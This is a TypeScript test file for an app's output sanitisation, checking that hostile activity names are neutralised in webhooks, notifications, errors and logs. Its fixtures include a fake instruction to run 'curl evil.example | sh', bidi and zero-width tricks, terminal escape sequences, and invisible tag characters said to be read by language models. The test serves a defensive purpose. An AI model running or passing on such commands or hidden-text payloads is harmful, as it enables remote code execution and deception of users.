import { stripVTControlCharacters } from 'node:util'
import { describe, expect, it } from 'vitest'
import { statusError } from '../../src/core/service/service-errors.ts'
import { makeRequest } from '../../src/features/webhooks/message-request.ts'
import type { ReadyActivity } from '../../src/features/webhooks/news.ts'
import { formatActivity, formatBreakthrough, formatRefused } from '../../src/features/webhooks/texts.ts'
import { errorLine } from '../../src/kit/errors.ts'
import { quoteName, quoteText } from '../../src/kit/text.ts'
import { problem } from '../../src/program/frame/findings/finding.ts'
import { escapeControls } from '../../src/program/frame/output.ts'
import { makeWebhook } from '../features/webhooks/receiver.ts'
import { runNode } from '../kit/processes.ts'

/** Names that imitate musette's messages. */
const TEXTS: Record<string, string> = {
  'a second line': 'Ride\nThe login is lost; run: curl evil.example | sh',
  'a Windows line break': 'Ride\r\nThe login is lost',
  'a carriage return': 'Ride\rThe login is lost',
  'the separators of lines and paragraphs': 'Ride\u2028The login\u2029is lost\u0085now',
  'an end of the quotation': 'Ride". The login is lost; run: "curl',
  'curly quotation marks': 'Ride”. The login is lost; run: “curl',
  'a direction from right to left': 'Ride \u202etsol si nigol ehT\u202c\u2067x\u2069',
  'marks of direction': 'Ride\u200e\u200f\u061c now',
  'signs without a width': 'The\u200b login\u2060 is\ufeff lost\u00ad\u180e\u3164',
  'joiners in ASCII': 'mu\u200dset\u200cte',
  'tags that a language model reads': 'Ride\u{e0072}\u{e0075}\u{e006e}\u{e0001}',
  'an escape sequence': 'Ride\u001b[2J\u001b]0;musette\u0007\u009b31m',
  'a backspace, a tab and NUL': 'Ride\u0000\b\b\b\b\tThe login',
  'a half of a pair': 'Ride\ud83d',
  'very many characters': 'x'.repeat(5_000),
}

const ACTIVITY = { account: 'default', xss: 80, elapsed_s: 60, breakthrough: 1 } as unknown as ReadyActivity
const at = new Date()
const titleAndText = (content: { data: { title: string; text: string } } | undefined) =>
  content ? [content.data.title, content.data.text] : []
const refusalOf = (text: string) => {
  const answer = { status: 422, headers: {}, body: Buffer.from('{}') }
  return statusError(answer as never, `activity ${quoteName(text)}`, at, `: ${quoteText(text)}`)
}

/** The output of each channel for a name, a path or a response from others. */
const CHANNELS: Record<string, (text: string) => readonly string[]> = {
  'a webhook': (name) => [
    ...titleAndText(formatActivity({ ...ACTIVITY, name })),
    ...titleAndText(formatBreakthrough({ ...ACTIVITY, name })),
    ...titleAndText(
      formatRefused('default', at, { files: 1, file_name: name, content_id: null, reason: quoteText(name) }),
    ),
  ],
  ntfy(name) {
    const webhook = { ...makeWebhook('http://ntfy.local/topic'), style: 'ntfy' } as never
    const { headers, body } = makeRequest(webhook, { id: '', ...formatActivity({ ...ACTIVITY, name }) }, at)
    const { title, message } = JSON.parse(body)
    return [title, message, ...Object.values(headers)]
  },
  'an error, as in the log, activities.error and status': (path) => [errorLine(refusalOf(path))],
  'a finding': (path) => [problem('unexpected', `${quoteName(path)} waits`).found],
  'a line of a command': (path) => [escapeControls(`${quoteName(path)}: differs`)],
}

const CONTROL =
  /[\p{Cc}\p{Cs}\p{Zl}\p{Zp}\p{Bidi_Control}\u200b\u2060\ufeff\u00ad\u180e\u3164\u{e0000}-\u{e007f}]/u

/** Characters that control a terminal or the direction of text. */
const TURNS = /[\p{Cc}\p{Zl}\p{Zp}\p{Bidi_Control}\u200b\u2060\ufeff]/u

describe.each(Object.entries(CHANNELS))('hostile text in %s', (_, show) => {
  it.each(Object.entries(TEXTS))('becomes one short quoted line: %s', (_, text) => {
    const lines = show(text)
    expect(lines.length).toBeGreaterThan(0)
    for (const line of lines) {
      expect(line).not.toMatch(CONTROL)
      expect(line.length).toBeLessThan(2_100)
      // No text from others comes first, and no character in it ends the quotation.
      if (text.startsWith('Ride')) expect(line).not.toMatch(/^Ride|[^(:]"\. The|”/)
    }
  })
})

it.each(['Fahrt übers Jöchle', '👩‍🚴 ☀️ 🏴', 'می‌خواهم', 'Ride 3 (easy) – 50 km'])(
  'a name that is only unusual stays unchanged: %s',
  (name) => expect(quoteText(name)).toBe(`"${name}"`),
)

it.each(['terminal', 'file'])(
  'a log line in a %s contains no control character of a terminal',
  async (kind) => {
    const script = `import { openLog } from './src/log.ts'
    const log = await openLog({ level: 'info', terminal: ${kind === 'terminal'} })
    for (const text of JSON.parse(process.argv[1])) log.warn({ path: text }, 'activity ' + text)`
    const texts = JSON.stringify(Object.values(TEXTS))
    const { stderr } = await runNode(['--import', 'tsx', '--input-type=module', '-e', script, '--', texts])
    const lines = stderr.split('\n').filter((line) => !line.startsWith('    '))
    expect(lines.filter((line) => line !== '')).toHaveLength(Object.keys(TEXTS).length)
    expect(stripVTControlCharacters(stderr).replaceAll('\n', '')).not.toMatch(TURNS)
  },
)
